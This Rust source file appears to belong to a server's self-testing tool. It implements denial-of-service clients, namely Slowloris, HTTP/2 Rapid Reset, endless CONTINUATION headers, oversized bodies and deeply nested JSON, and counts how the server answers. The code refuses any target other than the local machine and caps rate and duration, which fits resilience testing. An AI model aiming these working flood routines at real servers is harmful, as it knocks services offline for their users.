//! Clients that mean harm, to see what honest ones notice of them. Only this machine is attacked, by so many connections, at a
//! bounded rate, for a bounded time.

use std::collections::BTreeMap;
use std::error::Error;
use std::fmt;
use std::io;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::time::{Duration, Instant};

use serde::Serialize;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::task::JoinSet;
use tokio::time::{Interval, MissedTickBehavior, interval, sleep, timeout};

use crate::options::{Attack, Options};

/// No attack is longer.
const LONGEST: Duration = Duration::from_secs(600);
/// Between two connections of a client, at the least.
const RECONNECT: Duration = Duration::from_millis(50);
/// Time for the server to say something after all was sent.
const LAST_WORDS: Duration = Duration::from_secs(3);
/// Bytes of a header that is too large, and of JSON that is nested too deeply.
const HEADER_BYTES: usize = 64 << 10;
const JSON_BYTES: usize = 1 << 20;
/// A body is announced so large, is sent in such pieces, and is given up after so many.
const BODY_BYTES: u64 = 1 << 30;
const PIECE_BYTES: usize = 64 << 10;
const PIECES: usize = 1024;
/// Streams that are opened and reset in one write, by every other client: so few that none is left over before the next ones,
/// and so many that a server can tell.
const STREAMS_AT_ONCE: [u32; 2] = [16, 128];
/// Frames of a header that never ends, and their bytes.
const CONTINUATIONS: usize = 256;
const CONTINUATION_BYTES: usize = 8 << 10;

/// Kinds and flags of frames (RFC 9113, section 6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// What was tried, and what came of it.
#[derive(Debug, Serialize)]
pub(crate) struct AttackReport {
    attack: Attack,
    clients: u32,
    seconds: f64,
    #[serde(flatten)]
    tally: Tally,
}

#[derive(Debug, Default, Clone, Serialize)]
struct Tally {
    /// Connections that were made, and could not be made.
    connections: u64,
    refused: u64,
    /// Connections that the server ended before the attack did.
    closed_by_server: u64,
    /// Bytes of headers, streams, requests or pieces of bodies, as the attack has them.
    sent: u64,
    /// Statuses of HTTP, and error codes of HTTP/2 that said goodbye.
    answers: BTreeMap<String, u64>,
}

impl fmt::Display for AttackReport {
    fn fmt(&self, to: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Tally { connections, refused, closed_by_server, sent, answers } = &self.tally;
        write!(
            to,
            "{:?}: {connections} connections ({refused} refused, {closed_by_server} ended by the server), {sent} sent",
            self.attack
        )?;
        for (answer, count) in answers {
            write!(to, "\n{count} × {answer}")?;
        }
        Ok(())
    }
}

/// Attacks until the time is over.
pub(crate) async fn run(attack: Attack, options: &Options) -> Result<AttackReport, Box<dyn Error>> {
    let address = options.address().await?;
    if !address.ip().is_loopback() {
        return Err(format!("{address} is not this machine; nobody else is attacked").into());
    }
    let (_, time) = options.times()?;
    let default_rate = match attack {
        Attack::Slowloris => f64::from(options.clients),
        Attack::RapidReset => 5000.0,
        Attack::Headers => 200.0,
        Attack::Body => 1600.0,
        Attack::DeepJson => 50.0,
    };
    let rate = options.rate.filter(|rate| *rate > 0.0).unwrap_or(default_rate);
    let attacker = Arc::new(Attacker {
        attack,
        address,
        authority: options.authority()?,
        pause: Duration::from_secs_f64(f64::from(options.clients) / rate),
        tally: Mutex::default(),
    });
    let end = Instant::now() + time.min(LONGEST);
    let mut clients = JoinSet::new();
    for number in 0..options.clients {
        let attacker = Arc::clone(&attacker);
        clients.spawn(async move {
            loop {
                attacker.connect(number).await;
                sleep(RECONNECT).await;
            }
        });
    }
    sleep(end.saturating_duration_since(Instant::now())).await;
    clients.shutdown().await;
    let tally = attacker.tally().clone();
    Ok(AttackReport { attack, clients: options.clients, seconds: options.seconds, tally })
}

struct Attacker {
    attack: Attack,
    address: SocketAddr,
    authority: String,
    /// Of a client, between two things that it sends.
    pause: Duration,
    tally: Mutex<Tally>,
}

impl Attacker {
    fn tally(&self) -> MutexGuard<'_, Tally> {
        self.tally.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// One connection, until either side ends it.
    async fn connect(&self, number: u32) {
        let Ok(stream) = TcpStream::connect(self.address).await else {
            self.tally().refused += 1;
            return;
        };
        self.tally().connections += 1;
        let (reader, mut writer) = stream.into_split();
        let reading = self.read(reader);
        tokio::pin!(reading);
        let sending = async {
            let sent = match self.attack {
                Attack::Slowloris => self.slowloris(&mut writer).await,
                Attack::RapidReset => self.rapid_reset(&mut writer, STREAMS_AT_ONCE[number as usize % 2]).await,
                Attack::Headers if number.is_multiple_of(2) => self.large_headers(&mut writer).await,
                Attack::Headers => self.endless_headers(&mut writer).await,
                Attack::Body => self.large_body(&mut writer, number.is_multiple_of(2)).await,
                Attack::DeepJson => self.deep_json(&mut writer).await,
            };
            // Whoever was cut off while it sent hears the reason, if there is one.
            sent.is_ok()
        };
        let ended_first = tokio::select! {
            () = &mut reading => true,
            sent_all = sending => {
                let heard = timeout(LAST_WORDS, reading).await.is_ok();
                heard || !sent_all
            }
        };
        self.tally().closed_by_server += u64::from(ended_first);
    }

    /// Counts what the server answers, until it ends the connection.
    async fn read(&self, mut reader: OwnedReadHalf) {
        let mut buffer = vec![0; 16 << 10];
        let mut seen: Vec<u8> = Vec::new();
        while let Ok(count @ 1..) = reader.read(&mut buffer).await {
            seen.extend_from_slice(&buffer[..count]);
            if seen.starts_with(b"HTTP/1.1 ") {
                // Each answer comes in one piece, small as it is.
                let status = String::from_utf8_lossy(seen.get(9..12).unwrap_or_default()).into_owned();
                *self.tally().answers.entry(status).or_default() += 1;
                seen.clear();
                continue;
            }
            while let Some((kind, payload)) = frame_of(&mut seen) {
                if kind == GOAWAY
                    && let Some(code) = payload.get(4..8)
                {
                    let code = u32::from_be_bytes([code[0], code[1], code[2], code[3]]);
                    *self.tally().answers.entry(format!("goaway {code}")).or_default() += 1;
                }
            }
        }
    }

    fn ticks(&self) -> Interval {
        let mut ticks = interval(self.pause.max(Duration::from_micros(1)));
        ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
        ticks
    }

    async fn slowloris(&self, writer: &mut OwnedWriteHalf) -> io::Result<()> {
        let head = format!("POST /search HTTP/1.1\r\nhost: {}\r\nx-slow: ", self.authority);
        writer.write_all(head.as_bytes()).await?;
        let mut ticks = self.ticks();
        loop {
            ticks.tick().await;
            writer.write_all(b"a").await?;
            self.tally().sent += 1;
        }
    }

    async fn rapid_reset(&self, writer: &mut OwnedWriteHalf, at_once: u32) -> io::Result<()> {
        writer.write_all(&opening()).await?;
        let question = request_block(&self.authority, "/search?q=how+do+ships+find+harbour+at+night");
        let mut ticks = interval(self.pause * at_once);
        ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
        let mut stream = 1;
        // Numbers of streams end at 2^31.
        while stream < 1 << 30 {
            ticks.tick().await;
            let mut frames = Vec::new();
            for _ in 0..at_once {
                push_frame(&mut frames, HEADERS, END_HEADERS | END_STREAM, stream, &question);
                push_frame(&mut frames, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                stream += 2;
            }
            writer.write_all(&frames).await?;
            self.tally().sent += u64::from(at_once);
        }
        Ok(())
    }

    async fn large_headers(&self, writer: &mut OwnedWriteHalf) -> io::Result<()> {
        let value = "a".repeat(HEADER_BYTES);
        let head = format!("GET /healthz HTTP/1.1\r\nhost: {}\r\nx-large: {value}\r\n\r\n", self.authority);
        let mut ticks = self.ticks();
        loop {
            ticks.tick().await;
            self.tally().sent += 1;
            writer.write_all(head.as_bytes()).await?;
        }
    }

    async fn endless_headers(&self, writer: &mut OwnedWriteHalf) -> io::Result<()> {
        let mut begin = opening();
        push_frame(&mut begin, HEADERS, 0, 1, &request_block(&self.authority, "/healthz"));
        writer.write_all(&begin).await?;
        // A header without an index: name and value, each after its length.
        let value = "a".repeat(CONTINUATION_BYTES);
        let mut block = vec![0];
        push_text(&mut block, "x-large");
        push_text(&mut block, &value);
        let mut frames = Vec::new();
        push_frame(&mut frames, CONTINUATION, 0, 1, &block);
        let mut ticks = self.ticks();
        for _ in 0..CONTINUATIONS {
            ticks.tick().await;
            self.tally().sent += 1;
            writer.write_all(&frames).await?;
        }
        Ok(())
    }

    async fn large_body(&self, writer: &mut OwnedWriteHalf, with_length: bool) -> io::Result<()> {
        let framing =
            if with_length { format!("content-length: {BODY_BYTES}") } else { "transfer-encoding: chunked".to_owned() };
        let head = format!(
            "POST /search HTTP/1.1\r\nhost: {}\r\ncontent-type: application/json\r\n{framing}\r\n\r\n",
            self.authority
        );
        writer.write_all(head.as_bytes()).await?;
        let mut piece = if with_length { Vec::new() } else { format!("{PIECE_BYTES:x}\r\n").into_bytes() };
        piece.resize(piece.len() + PIECE_BYTES, b' ');
        if !with_length {
            piece.extend_from_slice(b"\r\n");
        }
        let mut ticks = self.ticks();
        for _ in 0..PIECES {
            ticks.tick().await;
            writer.write_all(&piece).await?;
            self.tally().sent += 1;
        }
        Ok(())
    }

    async fn deep_json(&self, writer: &mut OwnedWriteHalf) -> io::Result<()> {
        let body = format!("{{\"query\": {}", "[".repeat(JSON_BYTES));
        let head = format!(
            "POST /search HTTP/1.1\r\nhost: {}\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
            self.authority,
            body.len()
        );
        let request = [head.as_bytes(), body.as_bytes()].concat();
        let mut ticks = self.ticks();
        loop {
            ticks.tick().await;
            writer.write_all(&request).await?;
            self.tally().sent += 1;
        }
    }
}

/// What a connection of HTTP/2 begins with.
fn opening() -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    push_frame(&mut bytes, SETTINGS, 0, 0, &[]);
    bytes
}

/// Appends a frame (RFC 9113, section 4.1).
fn push_frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    bytes.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// Takes the first frame, if it is there in full.
fn frame_of(bytes: &mut Vec<u8>) -> Option<(u8, Vec<u8>)> {
    let head = bytes.get(..9)?;
    let (length, kind) = (u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize, head[3]);
    if bytes.len() < 9 + length {
        return None;
    }
    let payload = bytes[9..9 + length].to_vec();
    bytes.drain(..9 + length);
    Some((kind, payload))
}

/// Headers of a GET, by the fixed table and without Huffman codes (RFC 7541, appendix A).
fn request_block(authority: &str, path: &str) -> Vec<u8> {
    // :method GET, :scheme http; then :authority and :path with values of their own.
    let mut block = vec![0x82, 0x86, 0x01];
    push_text(&mut block, authority);
    block.push(0x04);
    push_text(&mut block, path);
    block
}

/// A string after its length, which has a prefix of seven bits (RFC 7541, section 5).
fn push_text(block: &mut Vec<u8>, text: &str) {
    let mut rest = text.len();
    if rest < 127 {
        block.push(rest as u8);
    } else {
        block.push(127);
        rest -= 127;
        while rest >= 128 {
            block.push((rest % 128 + 128) as u8);
            rest /= 128;
        }
        block.push(rest as u8);
    }
    block.extend_from_slice(text.as_bytes());
}
